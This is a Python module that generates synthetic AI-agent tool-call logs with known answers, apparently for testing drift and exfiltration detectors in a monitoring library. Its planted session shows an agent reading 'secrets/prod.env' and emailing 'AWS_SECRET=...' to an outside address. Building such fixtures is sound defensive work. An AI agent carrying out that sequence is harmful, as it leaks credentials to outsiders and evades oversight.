"""A generated event history with known answers, for tests, benchmarks and the workbench notebook.

`synthetic_events()` returns a frame shaped like `thoth_nb.events()` (TOOL_CALL_PRE rows with
tool_args): agents with stationary tool mixes, optionally a planted drift (from `drift_at`, one
agent's mix changes) and one planted exfiltration session (read a file under secrets/, then
send_email to an outside address).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import numpy as np

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["EXFIL_SESSION", "MIXES", "synthetic_events"]

EXFIL_SESSION = "sess-exfil"
#: tool → probability, per agent (before any planted drift)
MIXES: dict[str, dict[str, float]] = {
    "research": {"web_search": 0.5, "read_file": 0.3, "summarize": 0.18, "send_email": 0.02},
    "support": {"lookup_order": 0.45, "read_file": 0.25, "send_email": 0.25, "refund": 0.05},
}
#: after `drift_at`, the research agent mostly runs code and writes files
DRIFTED = {"web_search": 0.15, "read_file": 0.15, "summarize": 0.05, "send_email": 0.05, "run_code": 0.4,
           "write_file": 0.2}


def _args(tool: str, k: int) -> dict[str, Any]:
    if tool == "web_search":
        return {"query": f"topic {k % 97}", "max_results": 5}
    if tool == "read_file":
        return {"path": f"docs/report_{k % 53}.md"}
    if tool == "summarize":
        return {"text": f"section {k % 31}", "length": "short"}
    if tool == "send_email":
        return {"to": "team@corp.example", "subject": f"update {k % 11}", "body": "see attached"}
    if tool == "lookup_order":
        return {"order_id": 1000 + k % 5000}
    if tool == "refund":
        return {"order_id": 1000 + k % 5000, "amount": float(k % 90) + 0.5}
    if tool == "run_code":
        return {"code": f"print({k % 7})", "timeout": 30}
    if tool == "write_file":
        return {"path": f"out/{k % 13}.txt", "content": "result"}
    return {"value": k}


def synthetic_events(
    n: int = 10_000,
    *,
    seed: int = 0,
    session_length: int = 20,
    start: str = "2026-01-01T00:00:00Z",
    span_hours: float = 48.0,
    drift_at: float | None = None,
    exfiltration: bool = False,
    tool_args: bool = True,
) -> pd.DataFrame:
    """`n` TOOL_CALL_PRE events over `span_hours`, sessions of `session_length` calls, one agent per
    session (MIXES). `drift_at` in (0, 1): sessions starting after that fraction of the span use
    DRIFTED for the research agent. `exfiltration=True` appends the planted session EXFIL_SESSION."""
    from thoth_nb.analytics.frames import _pd

    pd = _pd()
    rng = np.random.default_rng(seed)
    n_sessions = max(1, n // session_length)
    agents = np.array(sorted(MIXES))
    session_agent = rng.integers(0, len(agents), n_sessions)
    span_ns = int(span_hours * 3600e9)
    t0 = pd.Timestamp(start).value
    session_start = np.sort(rng.integers(0, max(1, span_ns - session_length * 10 * 10**9), n_sessions))
    per_session = np.full(n_sessions, n // n_sessions)
    per_session[: n - per_session.sum()] += 1
    sess = np.repeat(np.arange(n_sessions), per_session)
    gaps = rng.uniform(1.0, 6.0, n)
    # time within a session: cumulative gaps restarted at each session
    csum = np.cumsum(gaps)
    offset = np.repeat(csum[np.cumsum(per_session) - per_session] - gaps[np.cumsum(per_session) - per_session],
                       per_session)
    times = t0 + session_start[sess] + ((csum - offset) * 1e9).astype(np.int64)
    agent_of = agents[session_agent[sess]]
    drifted = np.zeros(n, dtype=bool)
    if drift_at is not None:
        drifted = (session_start[sess] >= drift_at * span_ns) & (agent_of == "research")
    tool_names = np.empty(n, dtype=object)
    for agent in agents:
        for shifted in (False, True):
            mask = (agent_of == agent) & (drifted == shifted)
            if not mask.any():
                continue
            mix = DRIFTED if shifted else MIXES[str(agent)]
            names = list(mix)
            probs = np.array([mix[t] for t in names])
            tool_names[mask] = np.array(names, dtype=object)[rng.choice(len(names), mask.sum(), p=probs / probs.sum())]
    session_ids = np.array([f"sess-{i:06d}" for i in range(n_sessions)], dtype=object)[sess]
    frame = pd.DataFrame({
        "seq": np.zeros(n, dtype=np.int64),
        "occurred_at": pd.to_datetime(times.view("datetime64[ns]"), utc=True),
        "session_id": session_ids,
        "agent_id": agent_of.astype(object),
        "user_id": "analyst",
        "tool_name": tool_names,
        "event_type": "TOOL_CALL_PRE",
        "enforcement_mode": "observe",
    })
    if tool_args:
        ks = rng.integers(0, 10_000, n)
        frame["tool_args"] = [_args(t, int(k)) for t, k in zip(tool_names, ks, strict=True)]
    if exfiltration:
        when = pd.Timestamp(t0 + int(span_ns * 0.8), tz="UTC")
        rows = [
            ("read_file", {"path": "docs/report_1.md"}),
            ("read_file", {"path": "secrets/prod.env"}),
            ("summarize", {"text": "section 1", "length": "short"}),
            ("send_email", {"to": "drop@outside.example", "subject": "fyi", "body": "AWS_SECRET=..."}),
        ]
        extra = pd.DataFrame({
            "seq": 0,
            "occurred_at": [when + pd.Timedelta(seconds=3 * i) for i in range(len(rows))],
            "session_id": EXFIL_SESSION,
            "agent_id": "support",
            "user_id": "analyst",
            "tool_name": [r[0] for r in rows],
            "event_type": "TOOL_CALL_PRE",
            "enforcement_mode": "observe",
            **({"tool_args": [r[1] for r in rows]} if tool_args else {}),
        })
        frame = pd.concat([frame, extra], ignore_index=True)
    frame = frame.sort_values("occurred_at", kind="stable").reset_index(drop=True)
    frame["seq"] = np.arange(1, len(frame) + 1, dtype=np.int64)
    frame["event_id"] = "local:" + frame["seq"].astype(str)
    for column in ("session_id", "agent_id", "user_id", "tool_name", "event_type"):
        frame[column] = frame[column].astype("category")
    return frame  # type: ignore[no-any-return]
